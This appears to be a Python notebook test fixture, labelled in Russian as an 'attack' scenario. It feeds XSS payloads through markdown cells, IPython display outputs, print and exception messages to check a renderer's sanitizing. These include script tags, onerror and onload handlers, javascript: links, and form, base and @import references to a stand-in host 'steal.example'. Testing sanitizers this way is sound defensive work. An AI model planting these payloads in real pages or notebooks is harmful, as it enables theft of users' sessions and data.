"""Нападение: сценарии в выводах, в тексте, в картинках и в сообщениях исключений."""

# %% base ../honest

# %% [markdown] why
# <script>steal(1)</script> <img src=x onerror=steal(2)>
# [ссылка](javascript:steal(3)) <iframe src="data:text/html,steal"></iframe>
# <svg onload=steal(4)><style>@import "http://steal.example"</style></svg>

# %% extra after=setup
from IPython.display import HTML, SVG, Javascript, Markdown, display

display(HTML("<script>steal(5)</script><a href='javascript:steal(6)'>x</a><form action=//steal.example></form>"))
display(Javascript("steal(7)"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='steal(8)'><script>steal(9)</script></svg>"))
display(Markdown("<img src=x onerror=steal(10)>"))
display({"image/png": "\"><script>steal(11)</script>", "text/html": "<base href=//steal.example>"}, raw=True)
print("<script>steal(12)</script> \x1b]8;;http://steal.example\x07x")

# %% extra after=test_repeat
raise ValueError("</pre><script>steal(13)</script>")

# %% relu
def relu(x):
    raise type("<script>steal</script>", (Exception,), {})("<img src=x onerror=steal(14)>")
